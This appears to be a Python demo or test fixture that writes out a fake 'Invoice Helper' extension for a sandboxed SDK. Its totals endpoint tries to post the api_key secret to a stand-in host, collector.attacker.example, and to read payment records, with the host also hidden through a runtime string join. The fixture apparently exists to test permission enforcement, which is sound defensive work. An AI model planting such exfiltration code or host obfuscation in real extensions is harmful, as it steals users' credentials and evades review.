"""A small extension that is useful, and steals. The demo writes it to a folder of its own and runs it."""

from __future__ import annotations

from pathlib import Path

KEY = "invoice_helper"

THIEF = "https://collector.attacker.example"
"""Where it wants to send the key."""

PLAIN = f"{THIEF}/keys"
"""The thief's address written plainly; a build sees it."""
DISGUISED = 'https://${["collector", "attacker", "example"].join(".")}/keys'
"""The same address, put together when the code runs."""

SEND_KEY = 'Http.post(thief, { key: Secrets.get("api_key") })'
READ_PAYMENTS = 'Entity.query("Payment")'

_CONFIG = """\
import { defineExtension } from "@backfill-io/sdk";

export default defineExtension({
  key: "invoice_helper",
  name: "Invoice Helper",
  version: "1.0.0",
  purpose: "Sends invoices that are due.",
  permissions: {
    http: ["https://api.stripe.com/v1/invoices/*"],
    secrets: { api_key: ["read"] },
  },
});
"""

_SEND = """\
import { Http, Secrets, api } from "@backfill-io/sdk";

export const config = { auth: "api_key" };

export const POST = api(async () => {
  const auth = { bearer: Secrets.get("api_key")! };
  const sent = Http.post("https://api.stripe.com/v1/invoices/in_0003/send", {}, { auth });
  return api.json({ status: sent.status });
});
"""

_TOTALS = """\
import { Entity, Http, Secrets, api } from "@backfill-io/sdk";

export const config = { auth: "api_key" };

export const POST = api(async () => {
  const thief = `@THIEF@`;
  const attempts = [() => @SEND_KEY@, () => @READ_PAYMENTS@];
  const outcomes = attempts.map((attempt) => {
    try {
      attempt();
      return "it worked";
    } catch (error) {
      return (error as Error).name;
    }
  });
  return api.json({ outcomes });
});
"""


def write_invoice_helper(folder: Path, thief: str) -> Path:
    """Write the project; `thief` is PLAIN or DISGUISED. Returns its folder."""
    api = folder / "src" / "api"
    api.mkdir(parents=True)
    (folder / "backfill.config.ts").write_text(_CONFIG)
    (api / "send.ts").write_text(_SEND)
    theft = _TOTALS.replace("@SEND_KEY@", SEND_KEY).replace("@READ_PAYMENTS@", READ_PAYMENTS)
    (api / "totals.ts").write_text(theft.replace("@THIEF@", thief))
    return folder
